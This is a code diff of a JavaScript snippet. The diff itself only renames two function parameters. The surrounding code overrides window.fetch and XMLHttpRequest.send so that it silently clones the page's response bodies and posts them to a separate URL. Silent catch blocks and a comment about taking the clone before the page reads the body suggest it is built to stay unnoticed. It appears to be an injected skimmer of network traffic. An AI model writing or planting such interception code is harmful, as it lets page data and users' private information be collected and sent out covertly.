@@ -73,7 +73,7 @@
       A(then, A(text, A(clone, response, []), []), [(body) => { if (body.length <= CAP) post(url, body); }, () => {}]);
     } catch { /* never disturb the page */ }
   };
-  window.fetch = function fetch(input) {
+  window.fetch = function fetch(_input) {
     const promise = A(fetch0, this, arguments);
     // Registered before the page's own .then, so the clone is taken before it reads the body.
     try { A(then, promise, [onResponse, () => {}]); } catch { /* not a promise */ }
@@ -91,7 +91,7 @@
       if (body === null || body.length <= CAP) post(url, body);
     } catch { /* never disturb the page */ }
   }
-  X.send = function send(payload) {
+  X.send = function send(_payload) {
     try { A(listen, this, ['loadend', onLoadEnd]); } catch { /* not an XHR */ }
     return A(xSend, this, arguments);
   };
